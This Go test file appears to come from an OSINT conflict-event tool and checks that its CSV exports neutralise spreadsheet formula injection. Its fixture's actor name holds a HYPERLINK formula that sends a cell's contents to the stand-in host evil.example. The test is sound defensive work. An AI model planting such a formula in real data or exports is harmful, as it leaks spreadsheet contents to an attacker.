package http

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/vigil-osint/vigil"
	"github.com/vigil-osint/vigil/ingest"
	"github.com/vigil-osint/vigil/ingest/casefile"
)

// formulaCase is a case file whose actor and place a spreadsheet would run
// as formulas, at a point of negative coordinates.
const formulaCase = `{"title": "Formulas",
 "sources": [{"name": "Formula Blog", "kind": "social", "reliability": "F"}],
 "documents": [
  {"source": "Formula Blog", "key": "formula-1", "title": "t", "text": "x", "language": "en", "tlp": "CLEAR", "published": "2023-06-02",
   "reports": [{"event_key": "formula-2023-06-01", "date_start": "2023-06-01", "date_end": "2023-06-01", "date_precision": 1,
     "place": "-2+3 Market", "latitude": -12.05, "longitude": -77.04, "location_precision": 2, "country": "PE",
     "event_type": "Violence against civilians", "sub_event_type": "Attack",
     "actors": [{"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "role": "perpetrator", "attribution": "claimed"}],
     "killed": {"low": 1, "best": 1, "high": 1}, "credibility": 4}]}
 ]}`

// TestExportSpreadsheetSafe: a CSV export writes untrusted text as it came
// unless spreadsheet_safe=1, which puts a quote before each text cell a
// spreadsheet would run as a formula and leaves numbers (a negative
// coordinate) as they are.
func TestExportSpreadsheetSafe(t *testing.T) {
	f := newFixture(t, nil)
	rd, err := casefile.NewReader(strings.NewReader(formulaCase), "formula", f.dict)
	if err != nil {
		t.Fatal(err)
	}
	if err := ingest.Run(ctx, f.store, &vigil.Batch{Format: "test", File: "formula.json"}, rd, ingest.Options{}); err != nil {
		t.Fatal(err)
	}
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	for _, format := range []string{"csv", "acled-csv", "ucdp-csv"} {
		for _, safe := range []string{"", "0", "1", "true"} {
			path := "/api/v1/export/" + format + "?from=2023-06-01&to=2023-06-01"
			if safe != "" {
				path += "&spreadsheet_safe=" + safe
			}
			res := f.do("GET", path, "green", nil)
			if res.status != 200 {
				t.Fatalf("GET %s: %d %s", path, res.status, res.body)
			}
			recs, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
			if err != nil || len(recs) != 2 {
				t.Fatalf("GET %s: %d records, %v", path, len(recs), err)
			}
			guarded := safe == "1" || safe == "true"
			raw := slices.ContainsFunc(recs[1], func(c string) bool { return strings.HasPrefix(c, formula) })
			quoted := slices.ContainsFunc(recs[1], func(c string) bool { return strings.HasPrefix(c, "'"+formula) })
			if raw == guarded || quoted != guarded {
				t.Errorf("GET %s: the actor written as it came %v, quoted %v", path, raw, quoted)
			}
			if !slices.Contains(recs[1], "-12.05") {
				t.Errorf("GET %s: the latitude -12.05 is not written as a number: %q", path, recs[1])
			}
			if guarded {
				for _, c := range recs[1] {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && c != "-12.05" && c != "-77.04" {
						t.Errorf("GET %s: cell %q would run as a formula", path, c)
					}
				}
			}
		}
	}
	for _, path := range []string{"/api/v1/export/csv?spreadsheet_safe=yes", "/api/v1/export/geojson?spreadsheet_safe=1"} {
		if res := f.do("GET", path, "green", nil); res.status != 400 || !strings.Contains(res.body, "spreadsheet_safe") {
			t.Errorf("GET %s: %d %s, want 400 naming spreadsheet_safe", path, res.status, res.body)
		}
	}
}
